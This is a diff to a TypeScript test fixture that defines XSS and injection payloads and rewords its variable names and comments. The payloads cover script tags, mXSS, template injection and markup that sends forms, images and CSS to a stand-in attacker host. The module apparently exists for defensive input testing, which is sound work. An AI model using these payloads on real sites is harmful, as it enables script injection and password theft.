@@ -1,13 +1,13 @@
 import { existsSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 
-/** What each script does that runs after all. */
+/** Every script sets this property of `window` if it runs. */
 export const marker = '__ran'
 export const run = `window.${marker}=1`
-const thief = 'https://thief.example'
+const attacker = 'https://attacker.example'
 
-/** Ways by which scripts, pages of others and broken markup got into pages elsewhere. */
-const ours: readonly string[] = [
+/** Known ways to inject scripts, foreign content and broken markup. */
+const builtInStrings: readonly string[] = [
   `<script>${run}</script>`,
   `</script><script>${run}//`,
   `</title></textarea></style><script>${run}</script>`,
@@ -24,10 +24,10 @@ const ours: readonly string[] = [
   `data:text/html,<script>opener.${run}</script>`,
   `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
-  `<form action="${thief}/"><input name=password autofocus onfocus=${run}></form>`,
-  `<img src="${thief}/pixel.png"><video src="${thief}/video.mp4" autoplay></video>`,
-  `<style>@import "${thief}/all.css"; body{background:url(${thief}/pixel.png)}</style>`,
-  `<base href="${thief}/"><meta http-equiv="refresh" content="0;url=${thief}/">`,
+  `<form action="${attacker}/"><input name=password autofocus onfocus=${run}></form>`,
+  `<img src="${attacker}/pixel.png"><video src="${attacker}/video.mp4" autoplay></video>`,
+  `<style>@import "${attacker}/all.css"; body{background:url(${attacker}/pixel.png)}</style>`,
+  `<base href="${attacker}/"><meta http-equiv="refresh" content="0;url=${attacker}/">`,
   `{{constructor.constructor('${run}')()}}`,
   `\${${run}} #{7*7} <%= 7*7 %> %s %n $& $1`,
   'null \\ \\u003cscript\\u003e \u2028 \u2029 \u200f &lt;script&gt;',
@@ -36,13 +36,13 @@ const ours: readonly string[] = [
 
 const folder = join(process.env.SAMPLES_DIR ?? '', 'naughty')
 
-/** Whether every string of SAMPLES_DIR goes through every field: hours, so by hand alone. */
-export const isWhole =
+/** Whether every string of SAMPLES_DIR is tested in every field; this takes hours. */
+export const isFullRun =
   process.env.ALL_STRINGS === '1' && process.env.SAMPLES_DIR !== undefined && existsSync(folder)
 
 const read = (name: string) => readFileSync(join(folder, name), 'utf8')
 
-/** What is put into fields: ours, or with `ALL_STRINGS=1` also the lists in `SAMPLES_DIR/naughty`. */
-export const strings: readonly string[] = isWhole
-  ? [...ours, ...JSON.parse(read('strings.json')), ...read('xss.txt').split('\n')]
-  : ours
+/** The built-in strings; with `ALL_STRINGS=1` also the lists in `SAMPLES_DIR/naughty`. */
+export const strings: readonly string[] = isFullRun
+  ? [...builtInStrings, ...JSON.parse(read('strings.json')), ...read('xss.txt').split('\n')]
+  : builtInStrings
